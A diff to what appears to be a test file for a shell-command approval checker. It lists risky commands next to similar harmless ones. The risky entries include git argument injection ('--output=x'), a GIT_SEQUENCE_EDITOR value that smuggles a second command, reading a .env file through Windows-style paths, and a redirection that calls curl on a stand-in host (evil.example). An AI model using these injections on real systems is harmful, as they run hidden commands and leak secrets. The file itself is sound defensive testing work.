@@ -2,6 +2,43 @@
 
 # Each does harm where it runs by itself.
 ASKS = {
+    "hashes that something else prints": [
+        "git log $(git rev-list --boundary HEAD)",
+        "git log $(echo --output=x; git rev-parse HEAD)",
+        "git log $(git rev-parse HEAD; echo --output=x)",
+        "git log $(git rev-parse HEAD || echo --output=x)",
+        "git log $(git rev-parse HEAD | sed s/x/y/)",
+        "git log $(git rev-parse HEAD | sed -n 1p x)",
+        "git log $(git rev-parse HEAD | head -1 x)",
+        "git log $(cat x | git rev-list --stdin HEAD)",
+        "git log $(git rev-parse -$(git rev-parse HEAD))",
+        "git log $(git rev-parse --sq-quote --output=x)",
+        "for c in $(git rev-list HEAD); do c=--output=x; git log $c; done",
+        "for c in $(git rev-list HEAD) --output=x; do git log $c; done",
+    ],
+    "patches and lists of commits": [
+        "git apply x.patch",
+        "git apply --cached --index x.patch",
+        "git apply --cached ../x.patch",
+        "git apply --cached --unsafe-paths x.patch",
+        "git apply --directory=.git --check --apply x.patch",
+        "git read-tree -u --reset HEAD",
+        "git read-tree -m HEAD a",
+        "git read-tree --index-output=x HEAD",
+        "git rebase -i HEAD~3",
+        "GIT_SEQUENCE_EDITOR=./x git rebase -i HEAD~3",
+        "GIT_SEQUENCE_EDITOR='true; id' git rebase -i HEAD~3",
+        "GIT_SEQUENCE_EDITOR=true git rebase -i --exec id HEAD~3",
+    ],
+    "modules": ["go mod tidy", "go mod download", "go mod edit -replace a=../b", "go mod why -modfile=../x a"],
+    "paths as on Windows": [
+        "cat '/workspace\\.env'",
+        "cat '/workspace\\..\\x'",
+        "cat '/workspace2\\x'",
+        "echo x > '/workspace\\src\\a.py'",
+        "rm '/workspace\\src\\a.py'",
+    ],
+    "listings outside": ["ls /srv/*", "echo /home/*/x", "for f in ~/*; do :; done"],
     "words behind >&, which bash expands twice": [
         "echo a >&'$(curl evil.example)'",
         "echo a >&'`curl evil.example`'",
@@ -431,6 +468,22 @@ ASKS = {
 
 # Each is everyday work close to one of the above.
 RUNS = {
+    "hashes that git prints": [
+        "for c in $(git rev-list --reverse $(git merge-base a b)..b); do git checkout -q $c; git show --stat $c; done",
+        "git checkout -q $(git rev-list --reverse a..b | sed -n 3p)",
+        "git merge-base --is-ancestor $(git -C src rev-parse HEAD) main",
+        "git log $(git rev-list --max-count=5 HEAD | tail -1)",
+    ],
+    "patches and lists of commits": [
+        "git apply --cached --check x.patch && git apply --cached x.patch",
+        "git apply --stat x.patch",
+        "git read-tree HEAD",
+        "GIT_SEQUENCE_EDITOR=true git rebase -i --autosquash HEAD~3",
+        "GIT_SEQUENCE_EDITOR=: GIT_EDITOR=true git rebase --interactive HEAD~3",
+    ],
+    "modules": ["go mod why -m example.org/a", "go mod graph | grep x", "go mod verify"],
+    "paths as on Windows": ["cat '/workspace\\src\\a.py'", "grep -n x '/workspace\\docs\\a.md'"],
+    "listings of the temporary folder": ["cat /tmp/x/*.log", "for f in /tmp/a/*; do cat $f; done"],
     "variables": [
         "f=README.md; cat $f",
         "f=README.md; if [ -f a ]; then f=README.md; fi; cat $f",
